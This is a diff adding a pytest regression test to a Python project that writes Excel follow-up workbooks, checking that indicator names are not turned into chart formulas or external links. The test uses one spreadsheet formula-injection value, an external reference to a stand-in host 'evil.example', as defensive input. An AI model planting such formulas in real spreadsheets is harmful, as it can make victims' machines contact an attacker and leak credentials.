@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import re
 import zipfile
 from collections.abc import Callable
+from dataclasses import replace
 from datetime import datetime
 from pathlib import Path
 
@@ -11,7 +13,7 @@ import openpyxl
 import pytest
 
 from pupitre.run.suivi import NAME, write_follow_up
-from pupitre.study import Study
+from pupitre.study import Study, compute_study
 
 
 @pytest.fixture(scope="module")
@@ -76,3 +78,19 @@ def test_a_commune_without_indicator_has_no_table(study_of: Callable[..., Study]
     write_follow_up(study_of("09194"), tmp_path)
 
     assert list(tmp_path.iterdir()) == []
+
+
+def test_no_name_of_an_indicator_is_a_formula(study_of: Callable[..., Study], tmp_path: Path) -> None:
+    """A title that begins with = would be a reference to another file."""
+    study = study_of("00001")
+    evaluation = study.evaluation
+    assert evaluation is not None
+    named = replace(evaluation.progress[0], indicateur="='\\\\evil.example\\s\\[a.xlsx]S'!$A$1")
+    trapped = compute_study(study.dossier, study.law, study.assumptions)
+    trapped.__dict__["evaluation"] = replace(evaluation, progress=(named, *evaluation.progress[1:]))
+    write_follow_up(trapped, tmp_path)
+    book = zipfile.ZipFile(tmp_path / NAME)
+    charts = [book.read(name).decode() for name in book.namelist() if "charts/chart" in name]
+
+    assert not [formula for text in charts for formula in re.findall(r"<c:f>(.*?)</c:f>", text) if "evil" in formula]
+    assert not [name for name in book.namelist() if "externalLink" in name]
